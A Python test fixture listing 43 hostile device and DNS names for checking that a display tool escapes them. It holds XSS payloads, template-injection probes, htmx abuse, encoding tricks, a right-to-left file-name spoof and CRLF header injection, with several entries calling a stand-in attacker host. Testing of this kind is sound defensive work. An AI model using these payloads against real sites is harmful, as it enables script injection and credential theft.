# SPDX-License-Identifier: GPL-2.0-or-later
"""Names that attack whoever shows them: 43 of them, as a device, a DNS server or an owner of a reverse zone
may choose them. What runs would set `window.pwned`, or open a dialog.
"""

NAMES: tuple[str, ...] = (
    # elements with a script in them, or beside them
    "<script>window.pwned=1</script>",
    "</script><script>window.pwned=2</script>",
    "<img src=x onerror=window.pwned=3>",
    "<svg onload=window.pwned=4>",
    "<svg/onload=alert(5)>",
    "<body onload=alert(6)>",
    "<iframe src=javascript:window.parent.pwned=7>",
    "<iframe srcdoc='<script>parent.pwned=8</script>'>",
    "<details open ontoggle=window.pwned=9>x</details>",
    "<input autofocus onfocus=window.pwned=10>",
    "<video><source onerror=window.pwned=11></video>",
    "<object data=javascript:window.pwned=12>",
    "<embed src=javascript:window.pwned=13>",
    "<math><mtext></mtext><script>window.pwned=14</script></math>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<form action=//evil.example/><button>Log in",
    "<a href=javascript:window.pwned=15>click</a>",
    # out of an attribute, a title, a comment, a text area
    '" onmouseover="window.pwned=16" x="',
    "' onmouseover='window.pwned=17' x='",
    '"><script>window.pwned=18</script>',
    "'><script>window.pwned=19</script>",
    "</title><script>window.pwned=20</script>",
    "</textarea><script>window.pwned=21</script>",
    "--><script>window.pwned=22</script><!--",
    "]]><script>window.pwned=23</script>",
    "javascript:window.pwned=24",
    # templates, of ours and of others; htmx's attributes
    "{{ 7*7 }}{{ config }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${alert(25)}<%= 7*7 %>#{7*7}",
    "<div hx-get=//evil.example/ hx-trigger=load></div>",
    "<div hx-on:load=window.pwned=26></div>",
    "<div data-confirm=x sse-connect=//evil.example/></div>",
    # entities and encodings that are read twice
    "&lt;script&gt;window.pwned=27&lt;/script&gt;",
    "%3Cscript%3Ewindow.pwned=28%3C/script%3E",
    "\\u003cscript\\u003ewindow.pwned=29\\u003c/script\\u003e",
    "+ADw-script+AD4-window.pwned=30+ADw-/script+AD4-",
    # what hides, turns round, or breaks lines
    "invoice\u202egpj.exe",
    "a\u200bb\u2066c\u2069\ufeff",
    "line\nSet-Cookie: session=1\r\n\r\n<script>window.pwned=31</script>",
    "\x1b[31mred\x1b[0m\x00\x07<script>window.pwned=32</script>",
)
